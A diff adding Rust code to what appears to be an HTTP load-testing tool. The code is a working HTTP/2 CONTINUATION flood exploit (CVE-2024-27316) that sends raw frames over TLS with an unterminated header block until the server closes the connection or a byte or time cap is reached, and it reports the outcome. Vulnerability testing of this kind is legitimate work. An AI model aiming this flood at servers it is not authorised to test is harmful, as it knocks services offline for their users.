@@ -298,3 +298,108 @@ pub async fn h3_resets(
         reason,
     })
 }
+
+/// What a CONTINUATION flood saw.
+#[derive(Debug, Clone, Serialize)]
+pub struct ContinuationReport {
+    /// Header block bytes sent before the server closed (or the cap was reached).
+    pub bytes_sent: u64,
+    pub frames_sent: u64,
+    pub closed_by_server: bool,
+    pub elapsed_ms: u64,
+}
+
+fn frame(ty: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let len = payload.len() as u32;
+    let mut f = Vec::with_capacity(9 + payload.len());
+    f.extend_from_slice(&len.to_be_bytes()[1..]);
+    f.push(ty);
+    f.push(flags);
+    f.extend_from_slice(&stream.to_be_bytes());
+    f.extend_from_slice(payload);
+    f
+}
+
+/// A literal header field without indexing (HPACK §6.2.2), new name, short strings.
+fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
+    let mut out = vec![0x00];
+    for s in [name, value] {
+        // 7-bit length prefix, not Huffman-coded; both are under 127 bytes here.
+        out.push(s.len().min(126) as u8);
+        out.extend_from_slice(&s[..s.len().min(126)]);
+    }
+    out
+}
+
+/// CONTINUATION flood (CVE-2024-27316 and kin): a HEADERS frame without END_HEADERS, then
+/// CONTINUATION frames of new header fields that never end the block, until the server
+/// closes the connection, `max_bytes` were sent or `within` passed. Raw frames over TLS (ALPN
+/// h2): no client library sends this.
+pub async fn continuation(
+    target: &Target,
+    max_bytes: u64,
+    within: Duration,
+) -> Result<ContinuationReport, LoadError> {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let cfg: Arc<rustls::ClientConfig> = target
+        .tls
+        .clone()
+        .ok_or_else(|| LoadError::Usage("the CONTINUATION flood needs HTTPS".into()))?;
+    let tcp = TcpStream::connect(target.addr)
+        .await
+        .map_err(io("connect"))?;
+    let name = rustls::pki_types::ServerName::try_from(target.host.clone())
+        .map_err(|e| LoadError::Usage(e.to_string()))?;
+    let tls = tokio_rustls::TlsConnector::from(cfg)
+        .connect(name, tcp)
+        .await
+        .map_err(io("TLS handshake"))?;
+    let (mut rd, mut wr) = tokio::io::split(tls);
+    let closed = Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let reader = {
+        let closed = closed.clone();
+        tokio::spawn(async move {
+            let mut buf = [0u8; 4096];
+            loop {
+                match rd.read(&mut buf).await {
+                    Ok(0) | Err(_) => break,
+                    Ok(_) => {}
+                }
+            }
+            closed.store(true, std::sync::atomic::Ordering::Relaxed);
+        })
+    };
+    let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    hello.extend(frame(0x4, 0, 0, &[]));
+    // :method GET, :scheme https, :path / (static table), :authority.
+    let mut block = vec![0x82, 0x87, 0x84];
+    block.extend(literal(b":authority", target.host.as_bytes()));
+    hello.extend(frame(0x1, 0x1, 1, &block)); // HEADERS: END_STREAM, not END_HEADERS
+    wr.write_all(&hello).await.map_err(io("write"))?;
+    let start = Instant::now();
+    let mut bytes = block.len() as u64;
+    let mut frames = 1;
+    let mut i = 0u64;
+    while bytes < max_bytes && start.elapsed() < within {
+        if closed.load(std::sync::atomic::Ordering::Relaxed) {
+            break;
+        }
+        let mut payload = Vec::with_capacity(1100);
+        while payload.len() < 1000 {
+            payload.extend(literal(format!("x-flood-{i}").as_bytes(), &[b'a'; 100]));
+            i += 1;
+        }
+        if wr.write_all(&frame(0x9, 0, 1, &payload)).await.is_err() {
+            break;
+        }
+        bytes += payload.len() as u64;
+        frames += 1;
+    }
+    let _ = tokio::time::timeout(Duration::from_secs(2), reader).await;
+    Ok(ContinuationReport {
+        bytes_sent: bytes,
+        frames_sent: frames,
+        closed_by_server: closed.load(std::sync::atomic::Ordering::Relaxed),
+        elapsed_ms: u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX),
+    })
+}
